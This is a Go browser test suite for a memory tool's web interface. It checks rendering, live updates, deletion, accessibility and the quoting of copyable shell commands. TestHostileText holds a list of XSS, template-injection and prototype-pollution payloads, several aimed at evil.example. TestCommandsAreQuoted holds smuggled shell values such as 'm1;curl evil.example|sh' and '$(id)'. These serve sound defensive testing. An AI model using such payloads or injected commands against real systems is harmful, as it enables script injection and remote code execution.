package browser

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cmemd/cmemd/internal/api"
)

// hostile are texts that pose as something else, beside those that the terminal's visible is held to.
func hostile(tb testing.TB) (texts []string) {
	tb.Helper()
	raw, err := os.ReadFile("../../cmd/cmemd/internal/terminal/testdata/visible.json")
	must(tb, err)
	var vectors []struct{ In, Text, Line string }
	must(tb, json.Unmarshal(raw, &vectors))
	for _, v := range vectors {
		texts = append(texts, "v "+v.In+" v") // no memory is empty
	}
	texts = append(texts,
		`<script>document.title='owned'</script>`, `<img src=x onerror="document.title='owned'">`, `<svg onload=document.title='owned'>`,
		`<svg><script>document.title='owned'</script></svg>`, `<iframe srcdoc="<script>parent.document.title='owned'</script>">`,
		`javascript:document.title='owned'`, `<a href="javascript:document.title='owned'">click</a>`, `"><script>document.title='owned'</script>`,
		`'"--></style></script><script>document.title='owned'</script>`, `<style>*{display:none}</style>`, `</title><script>document.title='owned'</script>`,
		`<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example>`,
		`<form action=//evil.example><button>x`, `<details open ontoggle=document.title='owned'>`, `<math><mtext><img src=x onerror=document.title='owned'>`,
		`{{constructor.constructor('document.title=1')()}}`, `${document.title='owned'}`, "`${document.title='owned'}`", `#{7*7}`, `<%= 7*7 %>`,
		`__proto__`, `constructor`, `toString`, `{"__proto__":{"polluted":true}}`, `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}},"constructor":null}`,
		`{"__v":1,"type":"img","props":{"src":"x","onerror":"document.title='owned'"},"__k":null,"constructor":null}`, `data:text/html,<script>1</script>`,
		`&lt;script&gt;`, `&#x3c;script&#x3e;`, `%3Cscript%3E`, `\u003cscript\u003e`, `/* */ @import url(//evil.example)`, `expression(alert(1))`,
		`file:///etc/passwd`, strings.Repeat("Z\u0335\u0310\u0316", 200), strings.Repeat("あ", 3000),
	)
	return append(texts, strings.Repeat("x", 60_000))
}

// everyPage are the paths of the pages, with a row that is opened.
func everyPage(row string) []string {
	return []string{"/ui/", "/ui/memory", "/ui/memory?peek=" + row, "/ui/memory?q=document", "/ui/memory/" + row, "/ui/losses?outcome=all", "/ui/log", "/ui/log?at=3", "/ui/replay", "/ui/decide"}
}

// TestHostileText: what is captured is text on every page, exactly as the commands print it.
func TestHostileText(t *testing.T) {
	w := newWorld(t)
	texts := hostile(t)
	ids := make([]string, len(texts))
	for i, text := range texts {
		title := []rune(text)
		ids[i] = w.saves(string(title[:min(len(title), 150)]), text)
	}
	w.works("<img src=x onerror=document.title='owned'>", "<script>document.title='owned'</script>", 3)
	w.works("long", strings.Repeat("y", 1_000_000), 1)
	w.settled()
	if len(texts) < 60 {
		t.Fatalf("only %d texts are tried", len(texts))
	}
	p := w.page("/ui/")
	for i, id := range ids {
		w.to(p, "/ui/memory/"+id)
		if len(texts[i]) > 50_000 {
			w.shows(p, "show all 60,000 characters")
			continue
		}
		want := js(texts[i])
		w.sees(p, `document.querySelector(".fields .said")`)
		var same struct {
			Want, Got string
			Elements  int
		}
		must(t, p.Eval(t.Context(), `(async () => {
			const { show } = await import(document.querySelector("script[src]").src.replace("app.js", "text.js"));
			const said = document.querySelector(".fields .said");
			return { Want: show(`+want+`), Got: said.textContent, Elements: said.querySelectorAll("*").length };
		})()`, &same))
		if same.Got != same.Want || same.Elements != 0 {
			t.Errorf("%q is shown as %q with %d elements, not as %q", texts[i], same.Got, same.Elements, same.Want)
		}
	}
	for _, path := range everyPage(ids[30]) {
		w.to(p, path)
		var made []string
		must(t, p.Eval(t.Context(), `[document.title === "owned" || window.owned ? "title" : "", ...[...document.querySelectorAll(
			"main script, main img, main iframe, main style, main base, main meta, main link, main form[action], main [onerror], main a:not([href^='/ui/'])")].map((e) => e.outerHTML)].filter(Boolean)`, &made))
		if len(made) > 0 {
			t.Errorf("%s: text became %q", path, made)
		}
	}
	w.quiet(p)
}

// TestVisibleVectors: show and line of the page are Visible and VisibleLine of the commands.
func TestVisibleVectors(t *testing.T) {
	w := newWorld(t)
	raw, err := os.ReadFile("../../cmd/cmemd/internal/terminal/testdata/visible.json")
	must(t, err)
	p := w.page("/ui/")
	var wrong []string
	must(t, p.Eval(t.Context(), `(async () => {
		const { show, line } = await import(document.querySelector("script[src]").src.replace("app.js", "text.js"));
		return `+string(raw)+`.filter((c) => show(c.in) !== c.text || line(c.in) !== c.line).map((c) => c.name + ": " + show(c.in));
	})()`, &wrong))
	if len(wrong) > 0 {
		t.Errorf("shown otherwise: %q", wrong)
	}
}

// numbers are those of the balance on Now.
func (w *world) numbers(p *Page) (n []int) {
	w.tb.Helper()
	must(w.tb, p.Eval(w.tb.Context(), `[...document.querySelectorAll(".balance b")].map((b) => Number(b.textContent.replaceAll(",", "")))`, &n))
	return n
}

// TestLive: while hooks fire the balance adds up; records come without a gap and none twice, over a kill -9, and in a tab that was
// hidden meanwhile, which holds no connection.
func TestLive(t *testing.T) {
	w := newWorld(t)
	w.works("first", "one", 3)
	w.settled()
	p := w.page("/ui/")
	must(t, p.Eval(t.Context(), `(async () => {
		const { live } = await import(document.querySelector("script[src]").src.replace("app.js", "net.js"));
		window.seen = [];
		window.live = live;
		live.listen((slice) => window.seen.push(...(slice ? slice.map((r) => r.position) : ["passed"])));
	})()`, nil))
	w.sees(p, `live.state === "live"`)
	for i := range 20 {
		w.works(fmt.Sprintf("s%d", i), "two", 5)
		if n := w.numbers(p); len(n) != 6 || n[0]+n[1]+n[2]+n[3]+n[4] != n[5] {
			t.Errorf("the balance is %v", n)
		}
	}
	w.kill()
	w.shows(p, "no connection")
	w.start()
	w.works("after", "three", 5)
	w.sees(p, `live.state === "live"`)
	must(t, p.Eval(t.Context(), `Object.defineProperty(document, "hidden", { get: () => window.away, configurable: true });
		window.away = true; document.dispatchEvent(new Event("visibilitychange"))`, nil))
	w.sees(p, `live.state === "paused"`)
	w.sees(p, `live.stop.signal.aborted`)
	w.works("hidden", "four", 5)
	w.settled()
	must(t, p.Eval(t.Context(), `window.away = false; document.dispatchEvent(new Event("visibilitychange"))`, nil))
	s := w.settled()
	w.sees(p, fmt.Sprintf(`live.position >= %d`, s.Position))
	w.sees(p, fmt.Sprintf(`seen.at(-1) >= %d`, s.Position))
	var gaps []any
	must(t, p.Eval(t.Context(), `seen.filter((x, i) => i > 0 && x !== seen[i - 1] + 1)`, &gaps))
	if len(gaps) > 0 {
		t.Errorf("records were missed, or came twice, before %v", gaps)
	}
	w.sees(p, fmt.Sprintf(`[...document.querySelectorAll(".balance b")].at(-1).textContent === "%d"`, s.Inputs.Captured))
}

// TestForget: the plan is what goes, the number must be typed, what came meanwhile stays, and what went is on no page of any tab.
func TestForget(t *testing.T) {
	w := newWorld(t)
	for i := range 12 {
		w.saves(fmt.Sprintf("zebra %d", i), "the client is called Quagga Ltd")
	}
	p, other := w.page("/ui/memory?q=zebra"), w.page("/ui/memory?q=zebra")
	w.sees(p, `document.querySelectorAll("[data-row]").length === 12`)
	for range 12 {
		w.press(p, "j", "x")
	}
	w.shows(p, "12 chosen")
	must(t, p.Eval(t.Context(), `document.querySelector(".head button.danger").click()`, nil))
	w.shows(p, "12 records")
	w.picture(p, "forget")
	w.saves("zebra late", "it came after the plan")
	must(t, p.Eval(t.Context(), `document.querySelector("dialog input").focus()`, nil))
	w.press(p, "1", "1")
	w.sees(p, `document.querySelector("dialog form button").disabled`)
	w.press(p, "Backspace")
	w.press(p, "2")
	w.sees(p, `!document.querySelector("dialog form button").disabled`)
	w.press(p, "Enter")
	w.shows(p, "12 records erased")
	w.picture(p, "receipt")
	must(t, p.Eval(t.Context(), `[...document.querySelectorAll("dialog button")].find((b) => b.textContent === "close").click()`, nil))
	for _, tab := range []*Page{p, other} {
		w.sees(tab, `document.querySelectorAll("[data-row]").length === 1 && document.body.innerText.includes("zebra late")`)
		var html string
		must(t, tab.Eval(t.Context(), `document.documentElement.outerHTML`, &html))
		if strings.Contains(html, "Quagga") || strings.Contains(html, "zebra 1") {
			t.Error("what was forgotten is on the page")
		}
	}
	if said := w.cmemd("log", "verify"); strings.Contains(said, "damaged") {
		t.Errorf("the log is %s", said)
	}
	w.until("the words to be in no file", func() bool { return w.inNoFile("Quagga") })
	w.quiet(p)
	w.quiet(other)
}

// inNoFile reports whether no file of the home holds a word. Files that go meanwhile hold none.
func (w *world) inNoFile(word string) bool {
	found := false
	_ = filepath.WalkDir(w.home, func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			b, _ := os.ReadFile(path)
			found = found || bytes.Contains(b, []byte(word))
		}
		return nil
	})
	return !found
}

// TestCorrectAndUndo: a wrong memory is corrected from its page by keys alone, and the correction is taken back.
func TestCorrectAndUndo(t *testing.T) {
	w := newWorld(t)
	id := w.saves("Deploys go out on Tuesdays", "Deploys go out on Tuesdays.")
	p := w.page("/ui/memory")
	w.shows(p, "Tuesdays")
	w.press(p, "j", "Enter")
	w.sees(p, `document.title.startsWith("Deploys") && document.querySelector(".chain")`)
	w.press(p, "c")
	w.sees(p, `document.querySelector("dialog textarea")`)
	must(t, p.Eval(t.Context(), `(() => { const t = document.querySelector("dialog textarea"); t.focus(); t.select(); })()`, nil))
	must(t, p.Type(t.Context(), "Deploys go out on Wednesdays."))
	must(t, p.Eval(t.Context(), `document.querySelector("dialog form button").click()`, nil))
	w.shows(p, "corrected; the old row stays behind why")
	w.shows(p, "superseded")
	w.press(p, "u")
	w.shows(p, "taken back")
	row, err := api.RowRoute.Call(t.Context(), w.client, api.RowQuery{ID: id})
	must(t, err)
	if row.Superseded {
		t.Error("the correction stands")
	}
	w.to(p, "/ui/memory")
	w.press(p, "n")
	w.sees(p, `document.querySelector("dialog textarea")`)
	must(t, p.Eval(t.Context(), `document.querySelector("dialog textarea").focus()`, nil))
	must(t, p.Type(t.Context(), "saved by mistake"))
	must(t, p.Eval(t.Context(), `document.querySelector("dialog form button").click()`, nil))
	w.sees(p, `document.querySelector(".rows").innerText.includes("saved by mistake")`)
	w.press(p, "u")
	w.shows(p, "taken back")
	w.sees(p, `!document.querySelector(".rows").innerText.includes("saved by mistake")`)
	w.quiet(p)
}

// TestWhyIsWhy: the page says of a row what the command and the API say.
func TestWhyIsWhy(t *testing.T) {
	w := newWorld(t)
	for i := range 4 {
		w.works(fmt.Sprintf("s%d", i), fmt.Sprintf("the queue number %d", i), 6)
	}
	w.settled()
	found, err := api.SearchRoute.Call(t.Context(), w.client, api.SearchQuery{Kind: "observation", Limit: 50, Sort: "newest"})
	must(t, err)
	if len(found.Results) < 4 {
		t.Fatalf("%d rows", len(found.Results))
	}
	p := w.page("/ui/")
	for _, r := range found.Results {
		why, err := api.WhyRoute.Call(t.Context(), w.client, api.WhyQuery{ID: r.ID.String()})
		must(t, err)
		var said api.Why
		must(t, json.Unmarshal([]byte(w.cmemd("why", "--json", r.ID.String())), &said))
		w.to(p, "/ui/memory/"+r.Handle.String())
		var shown []int
		must(t, p.Eval(t.Context(), `[...document.querySelectorAll(".chain details a.pos")].map((a) => Number(a.textContent.replaceAll(",", "")))`, &shown))
		var want, told []int
		for _, turn := range why.Turns {
			for _, in := range turn.Inputs {
				want = append(want, int(in.Position))
			}
		}
		for _, turn := range said.Turns {
			for _, in := range turn.Inputs {
				told = append(told, int(in.Position))
			}
		}
		if !slices.Equal(shown, want) || !slices.Equal(told, want) || len(want) == 0 {
			t.Errorf("%s comes from %v as the page says, %v as the command, %v as the API", r.ID, shown, told, want)
		}
		w.shows(p, why.Prompts[0].Text)
	}
	w.picture(p, "why")
	w.quiet(p)
}

// TestReach: every page is reached by keys alone, its controls have names, and it fits a phone, a zoomed window, dark, forced colours
// and paper.
func TestReach(t *testing.T) {
	w := newWorld(t)
	w.works("one", "a very long prompt "+strings.Repeat("wordwithoutanybreak", 12), 4)
	w.settled()
	found, err := api.SearchRoute.Call(t.Context(), w.client, api.SearchQuery{Limit: 1, Sort: "newest"})
	must(t, err)
	row := found.Results[0].ID.String()
	p := w.page("/ui/")
	for key, title := range map[string]string{"m": "Memory", "l": "Losses", "o": "Log", "r": "Replay", "d": "To decide", "n": "Now"} {
		w.press(p, "g", key)
		w.sees(p, `document.querySelector("main h1")?.textContent === `+js(title))
	}
	w.press(p, "?")
	w.sees(p, `document.querySelector("dialog[open]")`)
	w.press(p, "Escape")
	w.sees(p, `!document.querySelector("dialog[open]")`)
	w.press(p, "/")
	must(t, p.Type(t.Context(), "prompt"))
	w.sees(p, `location.search.includes("q=prompt") && document.querySelectorAll("[data-row]").length > 0`)
	for name, s := range map[string]Screen{
		"light": {Width: 1280, Height: 800}, "phone": {Width: 360, Height: 740}, "zoomed": {Width: 1280, Height: 800, Zoom: 2},
		"dark": {Width: 1280, Height: 800, Dark: true}, "forced": {Width: 1280, Height: 800, Forced: true}, "print": {Width: 800, Height: 1100, Print: true},
	} {
		must(t, p.Show(t.Context(), s))
		for i, path := range everyPage(row) {
			w.to(p, path)
			var over int
			must(t, p.Eval(t.Context(), `document.documentElement.scrollWidth - document.documentElement.clientWidth`, &over))
			if over > 0 {
				t.Errorf("%s scrolls sideways by %d px (%s)", path, over, name)
			}
			var row float64
			must(t, p.Eval(t.Context(), `(() => {
				const at = [...document.querySelectorAll(".top > :not(.search, .gap)")].map((e) => e.getBoundingClientRect()).map((r) => (r.top + r.bottom) / 2);
				const rail = document.querySelector(".rail");
				return Math.max(...at) - Math.min(...at) + Math.max(0, rail.scrollWidth - rail.clientWidth);
			})()`, &row))
			if row > 10 && name == "phone" {
				t.Errorf("%s: the bars of a phone take a second row, or are cut (%.0f px)", path, row)
			}
			if faint := w.faint(p); len(faint) > 0 && name != "forced" {
				t.Errorf("%s is faint (%s): %q", path, name, faint)
			}
			w.picture(p, fmt.Sprintf("%s-%d", name, i))
			named, err := p.Named(t.Context())
			must(t, err)
			for _, n := range named {
				if role, label, _ := strings.Cut(n, ": "); label == "" && slices.Contains([]string{"button", "link", "textbox", "searchbox", "combobox", "checkbox", "dialog"}, role) {
					t.Errorf("%s has a %s without a name", path, role)
				}
			}
		}
	}
	w.quiet(p)
}

// TestTheSameAsACommand: what each view says is the same as a command and as a curl is run as it stands, and answers.
func TestTheSameAsACommand(t *testing.T) {
	w := newWorld(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	w.works("one", "the queue", 4)
	w.settled()
	found, err := api.SearchRoute.Call(t.Context(), w.client, api.SearchQuery{Limit: 1, Sort: "newest"})
	must(t, err)
	path, err := program()
	must(t, err)
	p := w.page("/ui/")
	for _, view := range append(everyPage(found.Results[0].ID.String()), "/ui/memory?type=bugfix&file=a%20b%27c", "/ui/losses?outcome=observed&project=shop", "/ui/memory?state=flagged", "/ui/memory?kind=prompt") {
		w.to(p, view)
		commands := 2
		if strings.Contains(view, "state=") {
			commands = 1 // none lists a state of review
		}
		w.sees(p, fmt.Sprintf(`document.querySelectorAll(".same .command").length === %d`, commands))
		var said []string
		must(t, p.Eval(t.Context(), `[...document.querySelectorAll(".same .command")].map((c) => c.textContent)`, &said))
		for _, command := range said {
			if words := strings.Fields(command); words[0] == "cmemd" && words[1] == "search" {
				w.listsTheSame(p, command)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
			c := exec.CommandContext(ctx, "sh", "-c", strings.Replace(command, "curl ", "curl -sSf --max-time 3 -o /dev/null ", 1))
			c.Env, c.Dir = append(w.environ(), "PATH="+filepath.Dir(path)+string(filepath.ListSeparator)+os.Getenv("PATH")), w.dir
			out, err := c.CombinedOutput()
			follows := ctx.Err() != nil || strings.Contains(string(out), "timed out")
			nothing := strings.Contains(string(out), "nothing found")
			if cancel(); err != nil && !follows && !nothing {
				t.Errorf("%s: %s: %v\n%s", view, command, err, out)
			}
		}
	}
}

// listsTheSame fails the test where a search prints other rows than p shows, or others first.
func (w *world) listsTheSame(p *Page, command string) {
	w.tb.Helper()
	path, err := program()
	must(w.tb, err)
	c := exec.Command("sh", "-c", strings.Replace(command, "search ", "search --json ", 1))
	c.Env, c.Dir = append(w.environ(), "PATH="+filepath.Dir(path)+string(filepath.ListSeparator)+os.Getenv("PATH")), w.dir
	out, _ := c.Output() // it fails where it finds nothing
	var found api.SearchResults
	if len(out) > 0 {
		must(w.tb, json.Unmarshal(out, &found))
	}
	want, got := []string{}, []string{}
	for _, r := range found.Results {
		want = append(want, "/ui/memory/"+r.Handle.String())
	}
	must(w.tb, p.Eval(w.tb.Context(), `[...document.querySelectorAll(".rows [data-open]")].map((a) => a.getAttribute("href").split("?")[0])`, &got))
	if !slices.Equal(got, want) {
		w.tb.Errorf("%s lists %v, the page %v", command, want, got)
	}
}

// faint are texts whose contrast is below that of WCAG's AA: 4.5, or 3 where they are large.
func (w *world) faint(p *Page) (list []string) {
	w.tb.Helper()
	must(w.tb, p.Eval(w.tb.Context(), `(() => {
		const canvas = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
		const rgb = (c) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = c; canvas.fillRect(0, 0, 1, 1); return [...canvas.getImageData(0, 0, 1, 1).data]; };
		const lum = (c) => [0.2126, 0.7152, 0.0722].reduce((n, k, i) => { const v = c[i] / 255; return n + k * (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4); }, 0);
		const under = (e) => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor); if (c[3] > 200) return c; } return [255, 255, 255]; };
		const found = new Set();
		const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
		for (let n = walk.nextNode(); n; n = walk.nextNode()) {
			const e = n.parentElement, s = getComputedStyle(e);
			if (!n.data.trim() || s.visibility === "hidden" || !e.getClientRects().length || e.closest(":disabled, svg, .row-verbs")) continue;
			const [a, b] = [lum(rgb(s.color)), lum(under(e))].sort((x, y) => y - x);
			const large = parseFloat(s.fontSize) >= 24 || (parseFloat(s.fontSize) >= 18.6 && s.fontWeight >= 700);
			if ((a + 0.05) / (b + 0.05) < (large ? 3 : 4.5)) found.add(n.data.trim().slice(0, 30) + " " + ((a + 0.05) / (b + 0.05)).toFixed(2));
		}
		return [...found].slice(0, 8);
	})()`, &list))
	return list
}

// TestStates: each page says what would fill it, that it loads, what went wrong, and what is new.
func TestStates(t *testing.T) {
	w := newWorld(t)
	p := w.page("/ui/")
	for path, want := range map[string]string{
		"/ui/": "cmemd install claude-code", "/ui/memory": "cmemd install claude-code", "/ui/losses": "Nothing was dropped", "/ui/decide": "No agent asks",
		"/ui/memory?q=nothing": "Nothing matches", "/ui/memory/00000000-0000-4000-8000-000000000000": "Try again", "/ui/nowhere": "no such page", "/ui/memory/%FF": "no such page",
	} {
		must(t, p.Go(t.Context(), "http://"+w.addr+path))
		w.shows(p, want)
		w.picture(p, "empty"+strings.NewReplacer("/", "-", "?", "-").Replace(path))
	}
	must(t, p.Go(t.Context(), "http://"+w.addr+"/ui/losses?since=nonsense"))
	w.sees(p, `document.querySelector("[role=alert]")?.innerText.split("The request is not valid").length === 2 && document.querySelector("[role=alert] code").textContent === "since"`)
	p.Problems() // a row that is not there is a 404 on the console
	w.works("one", "two", 3)
	w.settled()
	w.to(p, "/ui/memory")
	w.sees(p, `document.querySelectorAll("[data-row]").length === 2`)
	must(t, p.Eval(t.Context(), `(() => { document.body.style.minHeight = "3000px"; scrollTo(0, 500); })()`, nil))
	w.saves("a newer row", "that came while the list was read")
	w.shows(p, "there is newer memory")
	w.picture(p, "newer")
	must(t, p.Eval(t.Context(), `document.querySelector(".fresh").click()`, nil))
	w.shows(p, "a newer row")
	w.quiet(p)
	w.sees(p, `performance.getEntriesByType("resource").some((r) => r.name.endsWith("/decide.js"))`)
	w.kill()
	for _, page := range []string{"/ui/losses", "/ui/log", "/ui/decide"} {
		must(t, p.Eval(t.Context(), `document.querySelector("nav a[href^='`+page+`']").click()`, nil))
		w.shows(p, "cmemd start")
		w.picture(p, "stopped"+strings.ReplaceAll(page, "/", "-"))
	}
	w.start()
	must(t, p.Eval(t.Context(), `document.querySelector("nav a[href='/ui/']").click()`, nil))
	w.shows(p, "a newer row")
}

// TestCommandsAreQuoted: what others named is one word of a command that is copied, and copied as it is shown.
func TestCommandsAreQuoted(t *testing.T) {
	w := newWorld(t)
	p := w.page("/ui/")
	for path, want := range map[string]string{
		"/ui/memory/m1;curl%20evil.example%7Csh":  `cmemd why 'm1;curl evil.example|sh'`,
		"/ui/memory/m1?as_of=$(id)%20'x":          `cmemd why --at '$(id) '\''x' m1`,
		"/ui/memory/--help":                       `cmemd why -- --help`,
		"/ui/memory?q=--json":                     `cmemd search -- --json`,
		"/ui/memory?q=a%0Ab%E2%80%AE%5C'":         `cmemd search $'a\nb\u202e\\\''`,
		"/ui/losses?reason=a%60id%60":             "cmemd outcomes --outcome dropped --reason 'a`id`'",
		"/ui/replay?days=0&session=x%3B%20reboot": `cmemd replay --policy all --session 'x; reboot'`,
	} {
		must(t, p.Go(t.Context(), "http://"+w.addr+path))
		w.sees(p, `document.querySelector(".same .command")?.textContent === `+js(want))
		must(t, p.Eval(t.Context(), `(() => { navigator.clipboard.writeText = async (text) => { window.copied = text; };
			document.querySelector(".same .command + button").click(); })()`, nil))
		w.sees(p, `window.copied === `+js(want))
	}
}
